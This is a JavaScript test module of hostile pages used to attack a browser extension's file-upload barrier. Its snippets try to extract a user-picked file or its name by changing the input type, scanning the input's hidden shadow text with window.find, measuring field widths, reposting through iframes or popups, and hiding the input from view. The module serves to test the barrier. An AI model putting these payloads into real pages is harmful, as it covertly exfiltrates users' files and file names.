// Hostile pages for the forty-eighth attack on the upload guard: the read
// barrier (extension/content/file-barrier.js). Chromium's own picker is
// opened as in attack 44-47's labeldeep (a span 70 deep inside a DETACHED
// label holding a file input i, clicked in the person's click on "#open");
// i's change listener then tries to get the file, or its name, out some way
// the barrier misses. A name learnt goes up as a text note "leak-….txt".
// Served by server.mjs at /attack48-…; tests: attack48.test.mjs.

import { leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';


/** attack 44's labeldeep (uploads.mjs browsersOwnPick), with what was learnt sent up as a note. */
const deepPick = (onChange, before = '', setup = '') => browsersOwnPick(onChange, { before: `${leak}\n      ${before}`, setup });

const HTML_WAYS = {
  // i's type set to text in its change listener: the barrier looks only at type=file inputs (withhold's first line);
  // does Chromium keep the file's name as the text input's value?
  typetext: deepPick(`i.type = 'text'; const v = i.value; note('typetext value ' + JSON.stringify(v)); if (v) leak(v, 'typetext');`),
  // The same with setAttribute, then the type set back to file: are the files still there (and read as known)?
  typeback: deepPick(`i.setAttribute('type', 'text'); note('as text ' + JSON.stringify(i.value)); i.type = 'file'; note('back ' + i.files.length); if (i.files.length) { window.leakedOnce = 1; send([...i.files], 'typeback'); }`),
  // A FileList taken (empty) before the pick: does Chromium fill the same list object?
  oldlist: deepPick(`note('old ' + window.old48.length + ' same ' + (window.old48 === i.files)); if (window.old48.length) { window.leakedOnce = 1; send([window.old48[0]], 'oldlist'); }`, '', 'window.old48 = i.files;'),
  // i connected (never read), alone in the body: the name Chromium draws inside the input (its user-agent shadow tree)
  // is found by window.find, one character at a time (case-sensitive; every string found that is not part of the
  // button's own "Choose File" is part of the name; the longest such is uploaded as a text note).
  find: deepPick(`document.body.replaceChildren(i); i.style.width = '600px';
        note('find sample ' + window.find('sample'));
        const cs = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._- ()';
        const has = (s) => { getSelection().removeAllRanges(); return window.find(s, true, false, false, false, false, false); };
        const grow = (s) => { for (let k = 0; k < 60; k++) { let next = null; for (const c of cs) if (has(s + c)) { next = s + c; break; } if (!next) break; s = next; } return s; };
        let best = '';
        for (const c of cs) { if (!has(c)) continue; const g = grow(c); if (!'Choose File'.includes(g) && g.length > best.length) best = g; }
        // Grown to the left too (the start of the name).
        for (let k = 0; k < 60 && best; k++) { let prev = null; for (const c of cs) if (has(c + best)) { prev = c + best; break; } if (!prev) break; best = prev; }
        note('found ' + JSON.stringify(best)); if (best) leak(best, 'find');`),
  // The same, the selection window.find leaves (inside i's user-agent shadow tree) stretched to the whole line with
  // Selection.modify and read back (toString): the name in one go, no guessing.
  findsel: deepPick(`document.body.replaceChildren(i); i.style.width = '600px';
        const hit = window.find('.'); const sel = getSelection(); note('find . ' + hit + ' sel ' + JSON.stringify(String(sel)) + ' anchor ' + (sel.anchorNode && sel.anchorNode.nodeName));
        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
        const got = String(sel); note('after modify ' + JSON.stringify(got));
        if (got.length > 1) leak(got, 'findsel');`),
  // i connected, sized to its content (field-sizing): its width says how long the name drawn in it is.
  fieldsizing: deepPick(`document.body.append(i); const w = i.offsetWidth; const e = document.createElement('input'); e.type = 'file'; e.style.fieldSizing = 'content'; document.body.append(e);
        note('width ' + w + ' empty ' + e.offsetWidth); if (w !== e.offsetWidth) leak('width-' + w + '-vs-' + e.offsetWidth, 'fieldsizing');`, '', "i.style.fieldSizing = 'content';"),
  // findsel with i out of sight: in a closed shadow root of a host the page keeps nearly transparent and 1px high
  // (the person sees nothing), the rest of the page left as it is.
  findquiet: deepPick(`const h = document.createElement('div'); h.style.cssText = 'opacity:0.01;height:1px;overflow:hidden;position:fixed;bottom:0;left:0';
        const r = h.attachShadow({ mode: 'closed' }); r.append(i); document.body.append(h);
        const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
        const got = String(sel); note('quiet ' + JSON.stringify(got)); h.remove();
        if (got.length > 1) leak(got, 'findquiet');`),
  // i adopted, never read, into a form in a new frame's FIRST document (about:blank, made synchronously) and posted
  // natively to /upload (multipart): does the frame's guard listen there already?
  framefirst: deepPick(`const fr = document.createElement('iframe'); document.body.append(fr); const d = fr.contentDocument;
        const f = d.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload';
        const b = d.createElement('button'); b.type = 'submit'; f.append(d.adoptNode(i), b); d.body.append(f); note('framefirst ' + !!d.body); b.click();`),
  // The same in a popup's first document (window.open('') in the change listener).
  popupfirst: deepPick(`const w = window.open('', '_blank', 'popup'); note('popup ' + !!w); const d = w.document;
        const f = d.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = location.origin + '/upload';
        const b = d.createElement('button'); b.type = 'submit'; f.append(d.adoptNode(i), b); d.body.append(f); b.click();`),
  // i into a GET form (file inputs send only the file NAME in the query) submitted into a frame whose address the page reads.
  getname: deepPick(`const fr = document.createElement('iframe'); fr.name = 'sink48'; document.body.append(fr);
        const f = document.createElement('form'); f.method = 'get'; f.action = '/px/never.gif'; f.target = 'sink48';
        const b = document.createElement('button'); b.type = 'submit'; f.append(i, b); document.body.append(f);
        fr.addEventListener('load', () => { let u = ''; try { u = fr.contentWindow.location.href; } catch (e) { u = 'threw ' + e.name; } note('get url ' + u); if (/sample/.test(u)) leak(u, 'getname'); });
        b.click();`),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack48Page = attackPages(48, picker, {});
